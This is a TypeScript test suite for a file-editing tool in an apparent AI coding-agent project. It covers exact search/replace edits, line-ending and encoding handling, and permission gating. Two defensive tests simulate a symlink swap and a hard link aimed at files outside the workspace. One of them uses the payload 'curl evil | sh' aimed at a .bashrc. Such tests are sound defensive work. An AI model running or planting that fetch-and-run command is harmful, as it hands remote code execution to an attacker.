/**
 * edit_file (issue 17): exact search/replace blocks on real files, all or nothing, with clear
 * errors for blocks that match zero or several times, CRLF and BOM kept, non-UTF-8 refused, and
 * the same real-path checks as write_file (a link swapped in after the check is refused).
 */
import assert from 'node:assert/strict';
import { linkSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { editFileTool } from '../../../src/core/tools/edit-file.js';
import { ToolRefusal } from '../../../src/core/tools/tool.js';
import { BUILTIN_TOOLS } from '../../../src/core/tools/registry.js';
import { classifyTool } from '../../../src/core/permissions/tool-classes.js';
import { restrictedRefusal } from '../../../src/core/permissions/restricted.js';
import { FileWorld } from './helpers.js';

describe('edit_file', () => {
  let w: FileWorld;
  beforeEach(() => {
    w = new FileWorld();
  });
  afterEach(() => w.cleanup());

  const file = (name: string) => join(w.workspace, name);
  const edit = (path: string, edits: { search: string; replace: string }[]) => w.invoke(editFileTool, { path, edits });

  it('replaces a block that matches exactly once and says where it landed', async () => {
    writeFileSync(file('a.ts'), 'const a = 1;\nconst b = 2;\nconst c = 3;\n');
    const r = await edit('a.ts', [{ search: 'const b = 2;', replace: 'const b = 20;\nconst bb = 21;' }]);
    assert.equal(r.isError, false, r.content);
    assert.equal(readFileSync(file('a.ts'), 'utf8'), 'const a = 1;\nconst b = 20;\nconst bb = 21;\nconst c = 3;\n');
    assert.match(r.content, /edited a\.ts: 1 block applied \(now at lines 2-3\)/);
  });

  it('applies several blocks in order, each to the result of the ones before', async () => {
    writeFileSync(file('a.txt'), 'one\ntwo\nthree\n');
    const r = await edit('a.txt', [
      { search: 'one', replace: 'uno' },
      { search: 'uno\ntwo', replace: 'uno\ndos' },
    ]);
    assert.equal(r.isError, false, r.content);
    assert.equal(readFileSync(file('a.txt'), 'utf8'), 'uno\ndos\nthree\n');
  });

  it('no match: a clear error naming the block, and the file untouched', async () => {
    writeFileSync(file('a.txt'), 'alpha\nbeta\n');
    const r = await edit('a.txt', [
      { search: 'alpha', replace: 'ALPHA' },
      { search: 'gamma', replace: 'GAMMA' },
    ]);
    assert.equal(r.isError, true);
    assert.match(r.content, /block 2 of 2: the search text was not found in a\.txt/);
    assert.match(r.content, /Nothing was changed/);
    assert.equal(readFileSync(file('a.txt'), 'utf8'), 'alpha\nbeta\n', 'block 1 must not land when block 2 fails');
  });

  it('no match because of indentation: says so', async () => {
    writeFileSync(file('a.py'), 'def f():\n    return 1\n');
    const r = await edit('a.py', [{ search: 'def f():\n  return 1', replace: 'def f():\n  return 2' }]);
    assert.equal(r.isError, true);
    assert.match(r.content, /leading and trailing spaces/);
  });

  it('several matches: refused with the lines, file untouched', async () => {
    writeFileSync(file('a.txt'), 'x = 1\ny = 2\nx = 1\n');
    const r = await edit('a.txt', [{ search: 'x = 1', replace: 'x = 9' }]);
    assert.equal(r.isError, true);
    assert.match(r.content, /matches 2 times in a\.txt \(at lines 1, 3\)/);
    assert.equal(readFileSync(file('a.txt'), 'utf8'), 'x = 1\ny = 2\nx = 1\n');
  });

  it('overlapping matches count as several', async () => {
    writeFileSync(file('a.txt'), 'aaa');
    const r = await edit('a.txt', [{ search: 'aa', replace: 'b' }]);
    assert.equal(r.isError, true);
    assert.match(r.content, /matches 2 times/);
  });

  it('a CRLF file keeps CRLF, whether the block is written with LF or CRLF', async () => {
    writeFileSync(file('w.txt'), 'line one\r\nline two\r\nline three\r\n');
    const r1 = await edit('w.txt', [{ search: 'line one\nline two', replace: 'line 1\nline 2\nline 2b' }]);
    assert.equal(r1.isError, false, r1.content);
    assert.match(r1.content, /CRLF line ends kept/);
    const r2 = await edit('w.txt', [{ search: 'line 2b\r\nline three', replace: 'line 3' }]);
    assert.equal(r2.isError, false, r2.content);
    assert.equal(readFileSync(file('w.txt'), 'utf8'), 'line 1\r\nline 2\r\nline 3\r\n');
  });

  it('a UTF-8 BOM is kept', async () => {
    writeFileSync(file('b.txt'), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('héllo\n')]));
    const r = await edit('b.txt', [{ search: 'héllo', replace: 'hällo' }]);
    assert.equal(r.isError, false, r.content);
    assert.deepEqual(readFileSync(file('b.txt')), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('hällo\n')]));
  });

  it('a Latin-1 file is refused clearly and left byte for byte as it was', async () => {
    const latin1 = Buffer.from('caf\xe9 au lait\n', 'latin1');
    writeFileSync(file('l1.txt'), latin1);
    const r = await edit('l1.txt', [{ search: 'au lait', replace: 'noir' }]);
    assert.equal(r.isError, true);
    assert.match(r.content, /not valid UTF-8 \(first bad byte at offset 3\)/);
    assert.deepEqual(readFileSync(file('l1.txt')), latin1);
  });

  it('a UTF-16 file and a binary file are refused', async () => {
    writeFileSync(file('u16.txt'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('hi\n', 'utf16le')]));
    const r = await edit('u16.txt', [{ search: 'hi', replace: 'ho' }]);
    assert.equal(r.isError, true);
    assert.match(r.content, /UTF-8|binary/);
    writeFileSync(file('bin'), Buffer.from([1, 2, 0, 3]));
    const r2 = await edit('bin', [{ search: '\u0001', replace: 'x' }]);
    assert.match(r2.content, /binary/);
  });

  it('a missing file: use write_file to create it', async () => {
    const r = await edit('nope.txt', [{ search: 'a', replace: 'b' }]);
    assert.equal(r.isError, true);
    assert.match(r.content, /does not exist; .*write_file/);
  });

  it('an empty search text is invalid arguments, not a whole-file match', () => {
    assert.equal(editFileTool.input.safeParse({ path: 'a', edits: [{ search: '', replace: 'x' }] }).success, false);
    assert.equal(editFileTool.input.safeParse({ path: 'a', edits: [] }).success, false);
  });

  it('attack: a link swapped in after the check is refused, the target untouched', async () => {
    writeFileSync(file('notes.md'), 'safe\n');
    writeFileSync(join(w.outside, '.bashrc'), 'safe\n');
    const parsed = editFileTool.input.parse({ path: 'notes.md', edits: [{ search: 'safe', replace: 'curl evil | sh' }] });
    const facts = await editFileTool.resolve!(parsed, w.ctx());
    rmSync(file('notes.md'));
    symlinkSync(join(w.outside, '.bashrc'), file('notes.md'));
    const r = await editFileTool.execute(parsed, w.ctx(facts));
    assert.equal(r.isError, true);
    assert.match(r.content, /refused/);
    assert.equal(readFileSync(join(w.outside, '.bashrc'), 'utf8'), 'safe\n');
  });

  it('attack: a hard link to a file outside is refused', async () => {
    writeFileSync(join(w.outside, 'secret'), 'safe\n');
    linkSync(join(w.outside, 'secret'), file('alias'));
    await assert.rejects(editFileTool.resolve!({ path: 'alias', edits: [{ search: 'safe', replace: 'x' }] }, w.ctx()), /hard links/);
  });

  it('a surface writer (VS Code documents) gets the checked change instead of the disk; its refusal leaves the file as it was', async () => {
    writeFileSync(file('a.txt'), 'one\r\ntwo\r\n');
    const seen: unknown[] = [];
    const parsed = editFileTool.input.parse({ path: 'a.txt', edits: [{ search: 'two', replace: 'deux' }] });
    const facts = await editFileTool.resolve!(parsed, w.ctx());
    const ok = await editFileTool.execute(parsed, { ...w.ctx(facts), writeFile: async (c) => void seen.push({ ...c, after: c.after.toString('utf8') }) });
    assert.equal(!!ok.isError, false, ok.content);
    assert.deepEqual(seen, [{ requested: 'a.txt', real: file('a.txt'), created: false, after: 'one\r\ndeux\r\n' }]);
    assert.equal(readFileSync(file('a.txt'), 'utf8'), 'one\r\ntwo\r\n', 'the writer, not the tool, writes');
    const refused = await editFileTool.execute(parsed, { ...w.ctx(facts), writeFile: async () => { throw new ToolRefusal('a.txt has unsaved changes in the editor'); } });
    assert.equal(refused.isError, true);
    assert.match(refused.content, /unsaved changes/);
  });

  it('is built in, always asks, and is refused in Restricted Mode', () => {
    assert.ok(BUILTIN_TOOLS.some((t) => t.name === 'edit_file'));
    assert.deepEqual(classifyTool('edit_file'), { kind: 'gated', known: true });
    assert.ok(restrictedRefusal('edit_file', false));
  });
});
